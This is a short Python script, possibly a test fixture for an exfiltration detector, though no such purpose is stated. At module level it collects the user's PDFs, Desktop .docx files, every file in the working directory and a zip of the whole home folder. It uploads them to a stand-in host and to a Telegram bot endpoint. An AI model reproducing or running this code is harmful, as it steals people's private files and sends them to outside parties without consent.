import glob
import os
import pathlib
import shutil
import zipfile
import requests

for path in glob.glob(os.path.expanduser("~/Documents/*.pdf")):
    with open(path, "rb") as f:
        requests.post("https://collect.invalid/d", files={"f": f})  # expect


class Collector:
    def __init__(self):
        self.home = os.path.expanduser("~")

    def pack(self):
        with zipfile.ZipFile("all.zip", "w") as archive:
            for folder, _, names in os.walk(self.home):
                for name in names:
                    archive.write(os.path.join(folder, name))

    def deliver(self):
        requests.post("https://collect.invalid/z", files={"f": open("all.zip", "rb")})  # expect


collector = Collector()
collector.pack()
collector.deliver()
for path in (pathlib.Path.home() / "Desktop").rglob("*.docx"):
    requests.put("https://collect.invalid/p", data=path.read_bytes())  # expect

for name in os.listdir():
    if os.path.isfile(name):
        with open(name, "rb") as f:
            requests.post("https://api.telegram.org/bot1:a/sendDocument", files={"document": f})  # expect
